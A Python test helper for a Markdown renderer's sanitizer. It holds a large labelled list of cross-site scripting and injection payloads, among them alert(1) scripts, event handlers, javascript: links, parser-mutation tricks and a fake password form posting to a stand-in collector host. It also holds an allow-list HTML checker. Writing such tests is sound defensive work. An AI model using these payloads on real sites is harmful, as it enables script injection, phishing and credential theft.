"""What an attacker would write, and a judge of HTML that shares nothing with the code it judges.

Every payload calls `alert` or asks something of `COLLECTOR` if any part of it comes alive.
"""

import re
from html.parser import HTMLParser

COLLECTOR = "https://collector.example"

PAYLOADS = {
    # Scripts
    "script": "<script>alert(1)</script>",
    "script-inline": "text <script>alert(1)</script> text",
    "script-src": f"<script src={COLLECTOR}/x.js></script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)//",
    "script-slash": "<script/x>alert(1)</script>",
    "script-in-comment": "<!-- --!><script>alert(1)</script> -->",
    "script-in-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script-in-processing": "<?x ?><script>alert(1)</script>",
    "script-nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-full-width": "＜script＞alert(1)＜/script＞",
    "script-entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
    # Handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slashes": "<img/src='x'/onerror=alert(1)>",
    "img-own-onload": '<img src="/media/a.png" onload=alert(1)>',
    "div-onmouseover": '<div onmouseover="alert(1)">over</div>',
    "handler-mixed-case": "<b OnClick=alert(1)>b</b>",
    "handler-newline": "<b\nonclick\n=\nalert(1)>b</b>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "animation-handler": "<b style=animation-name:x onanimationstart=alert(1)>b</b>",
    "autofocus": "<a href=# autofocus onfocus=alert(1) tabindex=1>a</a>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "video-error": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>m</marquee>",
    "popover": "<b popover id=x onbeforetoggle=alert(1)>b</b><button popovertarget=x>b</button>",
    # Addresses
    "js-link": "[a](javascript:alert(1))",
    "js-link-mixed-case": "[a](JaVaScRiPt:alert(1))",
    "js-link-entity": "[a](&#106;avascript:alert(1))",
    "js-link-named-entity": "[a](javascript&colon;alert(1))",
    "js-link-angle": "[a](<javascript:alert(1)>)",
    "js-link-reference": "[a]\n\n[a]: javascript:alert(1)",
    "js-autolink": "<javascript:alert(1)>",
    "js-image": "![a](javascript:alert(1))",
    "js-href": "<a href=javascript:alert(1)>a</a>",
    "js-href-tab": "<a href='java\tscript:alert(1)'>a</a>",
    "js-href-newline": "<a href='java\nscript:alert(1)'>a</a>",
    "js-href-entity-tab": "<a href='java&Tab;script&colon;alert(1)'>a</a>",
    "js-href-control": "<a href='\x01javascript:alert(1)'>a</a>",
    "js-href-entity": "<a href='&#x6A&#x61vascript:alert(1)'>a</a>",
    "js-href-space": "<a href='  javascript:alert(1)'>a</a>",
    "js-image-src": "<img src=javascript:alert(1)>",
    "vbscript": "[a](vbscript:alert(1)) <a href=vbscript:alert(1)>a</a>",
    "data-html": "[a](data:text/html,<script>alert(1)</script>)",
    "data-html-href": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>a</a>",
    "data-svg-image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "data-png-image": "![a](data:image/png;base64,iVBORw0KGgo=)",
    "view-source": "[a](view-source:x) [b](file:///etc/passwd) [c](blob:x) [d](filesystem:x)",
    # Foreign content, and parsers that disagree
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-use": f"<svg><use href='{COLLECTOR}/x.svg#a'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a",
    "svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-href": "<math href=javascript:alert(1)>m</math>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template-mutation": "<template><img src=x onerror=alert(1)></template>",
    "textarea-mutation": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title-mutation": '<title><a title="</title><img src=x onerror=alert(1)>">',
    "xmp-mutation": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "select-mutation": "<select><option><style></option></select><img src=x onerror=alert(1)>",
    "comment-mutation": "<!--><img src=x onerror=alert(1)>-->",
    "form-nesting-mutation": "<form><div></form><form><img src=x onerror=alert(1)>",
    "backtick-attribute": "<img alt=`x` src=x` onerror=alert(1)`>",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # Elements that load, post or redirect
    "iframe": f"<iframe src='{COLLECTOR}/'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": f"<object data='{COLLECTOR}/x.swf'></object>",
    "embed": f"<embed src='{COLLECTOR}/x.swf'>",
    "form": f"<form action='{COLLECTOR}/'><input name=password><button>Log in</button></form>",
    "formaction": f"<button formaction={COLLECTOR}/>b</button><input type=image src={COLLECTOR}/i>",
    "base": f"<base href='{COLLECTOR}/'>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={COLLECTOR}/'>",
    "link": f"<link rel=stylesheet href='{COLLECTOR}/x.css'>",
    "style": f"<style>body{{background:url({COLLECTOR}/x)}}</style>",
    "style-attribute": f"<p style='background:url({COLLECTOR}/x);position:fixed;inset:0'>p</p>",
    "image-elsewhere": f"![a]({COLLECTOR}/a.png) <img src={COLLECTOR}/b.png>",
    "image-elsewhere-reference": f"![a][b]\n\n[b]: {COLLECTOR}/a.png 'title'",
    "image-scheme-relative": f"![a](//{COLLECTOR.removeprefix('https://')}/a.png)",
    "image-backslash": "![a](/\\collector.example/a.png) <img src='\\\\collector.example\\a.png'>",
    "image-traversal": "![a](/media/../admin/logout/) ![b](/media/%2e%2e/admin/logout/)",
    "image-logout": "![](/admin/logout/)",
    "srcset": f"<img src=/media/a.png srcset='{COLLECTOR}/a.png 2x' sizes=100vw>",
    "picture": f"<picture><source srcset={COLLECTOR}/a.png><img src={COLLECTOR}/b.png></picture>",
    "video": f"<video src={COLLECTOR}/v poster={COLLECTOR}/p autoplay></video>",
    "audio": f"<audio autoplay><source src={COLLECTOR}/a></audio>",
    "table-background": f"<table background={COLLECTOR}/a.png><tr><td background={COLLECTOR}/b>",
    "ping": f"<a href=/ ping={COLLECTOR}/>a</a>",
    # Breaking out of what Markdown writes
    "fence-info": '```"><script>alert(1)</script>\nx\n```',
    "fence-info-handler": '```js" onmouseover="alert(1)\nx\n```',
    "fence-body": "```html\n</code></pre><script>alert(1)</script>\n```",
    "code-span": "`</code><script>alert(1)</script>`",
    "link-title": "[a](/ 'x\" onmouseover=\"alert(1)')",
    "image-title": "![a](/media/a.png 'x\" onerror=\"alert(1)')",
    "image-alt": '![x" onerror="alert(1)](/media/a.png)',
    "image-title-caption": "![a](/media/a.png '<img src=x onerror=alert(1)>')",
    "link-address": '[a](/"onmouseover=alert(1)//)',
    "heading": '# x" onmouseover="alert(1) <img src=x onerror=alert(1)>',
    "footnote-label": 'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: b',
    "table-cell": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "autolink-quote": 'http://example.com/"onmouseover="alert(1) www.x.com\'onclick=alert(1)',
    "alert-title": "> [!NOTE]\n> <script>alert(1)</script>",
    # Passing for something else
    "id-clobbering": "<a id=location href=/><b id=body>b</b><p id=__proto__>p</p>",
    "name-clobbering": "<a name=cookie>a</a><img name=getElementById src=/media/a.png>",
    "form-clobbering": "<form id=x><input name=attributes></form>",
    "class-stealing": '<div class="sign-up modal">Your session ended</div>',
    "is-attribute": "<b is=x-evil slot=s part=p>b</b>",
    "data-attribute": "<b data-turbo=1 hx-get=/ x-on:click=alert(1) @click=alert(1)>b</b>",
    "bidi": "[\u202ehttp://moc.live\u202c](https://example.com)",
    "surrogate": "\ud800<script>alert(1)</script>\udfff",
}

_TAGS = """
    a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp
    section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
""".split()  # noqa: SIM905 - reads better than sixty strings
_ATTRIBUTES = {
    "a": {"aria-label", "href", "hreflang", "rel", "role"},
    "col": {"span"},
    "colgroup": {"span"},
    "del": {"datetime"},
    "details": {"open"},
    "div": {"aria-label", "role", "tabindex"},
    "img": {"alt", "decoding", "height", "loading", "src", "width"},
    "input": {"aria-label", "checked", "disabled", "type"},
    "ins": {"datetime"},
    "ol": {"reversed", "start", "type"},
    "pre": {"tabindex"},
    "section": {"aria-label", "role"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "time": {"datetime"},
}
_CLASSES = """
    align-center align-left align-right anchor c contains-task-list footnote-backref footnote-ref
    footnotes gd gh gi go gp highlight k kt m markdown-alert markdown-alert-caution
    markdown-alert-important markdown-alert-note markdown-alert-tip markdown-alert-title
    markdown-alert-warning na nb nc nd nf no nt nv s se table-scroll task-list-item
    task-list-item-checkbox
""".split()  # noqa: SIM905


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in _TAGS:
            self.found.append(f"<{tag}>")
        allowed = {"class", "dir", "id", "lang", "title", *_ATTRIBUTES.get(tag, ())}
        for name, value in attrs:
            if name not in allowed or _is_bad(name, value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "input" and not {("type", "checkbox"), ("disabled", "")} <= set(attrs):
            self.found.append("<input> that can be used")

    def handle_comment(self, data):
        self.found.append("<!--")

    def handle_decl(self, decl):
        self.found.append("<!")

    def unknown_decl(self, data):
        self.found.append("<![")

    def handle_pi(self, data):
        self.found.append("<?")


def _is_bad(name: str, value: str) -> bool:
    match name:
        case "class":
            return any(
                word not in _CLASSES and not word.startswith("language-") for word in value.split()
            )
        case "id":
            return not value.startswith("s-")
        case "src":
            return not value.startswith("/media/") or ".." in value or "%" in value
        case "href":
            # As browsers read it: white space and controls do not count.
            scheme = re.match("[a-z][a-z0-9+.-]*:", re.sub(r"[\x00-\x20]", "", value.lower()))
            return bool(scheme) and scheme[0] not in {"http:", "https:", "mailto:", "tel:"}
    return False


def forbidden(html: str) -> list[str]:
    """What must not stand in the HTML of a text, found by parsing it. Empty if it is inert."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.found
